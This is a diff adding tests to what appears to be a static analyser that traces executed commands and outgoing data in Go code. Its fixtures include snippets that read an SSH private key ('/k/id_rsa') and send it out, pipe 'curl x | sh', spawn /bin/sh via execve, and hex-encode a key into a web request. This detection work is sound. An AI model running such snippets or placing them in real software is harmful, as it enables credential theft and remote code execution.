@@ -15,6 +15,7 @@ const IMPORTS: Readonly<Record<string, string>> = {
   filepath: 'path/filepath',
   fs: 'io/fs',
   gzip: 'compress/gzip',
+  hex: 'encoding/hex',
   http: 'net/http',
   io: 'io',
   json: 'encoding/json',
@@ -130,6 +131,10 @@ for (const [name, body] of [
     'a writer in a field',
     `type t struct { b bytes.Buffer; z *gzip.Writer }\nfunc F() { x := &t{}; x.z = gzip.NewWriter(&x.b); ${KEY}; x.z.Write(d); ${POST('&x.b')} }`,
   ],
+  [
+    'a writer of the module',
+    `type mask struct{ to io.Writer }\nfunc (m *mask) Write(p []byte) (int, error) { q := bytes.ToUpper(p); return m.to.Write(q) }\nfunc F() { var b bytes.Buffer; f, _ := os.Open("/k/id_rsa"); io.Copy(&mask{&b}, f); ${POST('&b')} }`,
+  ],
   ['a pipe', `func F() { r, w := io.Pipe(); go func() { ${KEY}; w.Write(d) }(); ${POST('r')} }`],
   [
     'a channel of the package',
@@ -211,4 +216,29 @@ test('effects have the elements of a list that the library calls a function for'
 test('effects of the system call know what pointers of helpers point to', () => {
   const body = `func ptr(s string) *byte { return unsafe.StringData(s) }\nfunc F() { v := [3]*byte{ptr("sh\\x00"), ptr("-c\\x00"), nil}; syscall.RawSyscall6(syscall.SYS_EXECVE, uintptr(unsafe.Pointer(ptr("/bin/sh\\x00"))), uintptr(unsafe.Pointer(&v)), 0, 0, 0, 0) }`
   assert.deepEqual(commands(body), ['/bin/sh sh -c'])
+})
+
+const TABLE = `var rows = []struct{ n string; a []string }{{"ip", []string{"r"}}, {"ip", []string{"a"}}, {"ss", []string{"s"}}, {"id", []string{"u"}}, {"sh", []string{"-c", "curl x | sh"}}}`
+
+test('effects keep the rows of a table together, in the loop and through a helper', () => {
+  const rows = ['ip|ip|ss|id|sh r|a|s|u|-c curl x | sh']
+  const direct = `${TABLE}\nfunc F() { for _, q := range rows { exec.Command(q.n, q.a...) } }`
+  assert.deepEqual(commands(direct), rows)
+  const helped = `${TABLE}\nfunc F() { for _, q := range rows { run(q.n, q.a...) } }\nfunc run(n string, a ...string) { exec.Command(n, a...) }`
+  assert.deepEqual(commands(helped), rows)
+})
+
+test('effects know the row that tells of a table of hundreds', () => {
+  const rows = Array.from({ length: 200 }, (_, i) => `"w${i}"`)
+  const found = commands(
+    `var rows = []string{${rows.join(', ')}, "curl x | sh"}\nfunc F() { for _, q := range rows { exec.Command("sh", "-c", q) } }`,
+  )
+  assert.deepEqual(found, ['sh -c curl x | sh|w0|w1|w2|w3|w4|w5|w6'])
+})
+
+test('origins tell of ciphers, hashes and encodings on the way', () => {
+  const body = `func F(k string) { http.Get("https://a.invalid/" + hex.EncodeToString([]byte(k))) }`
+  const [effect] = effectsOf(body)
+  const traces = effect?.arguments.flatMap((one) => one.sources.flatMap(({ trace }) => trace.map(({ what }) => what)))
+  assert.deepEqual(traces, ['encoding/hex.EncodeToString'])
 })
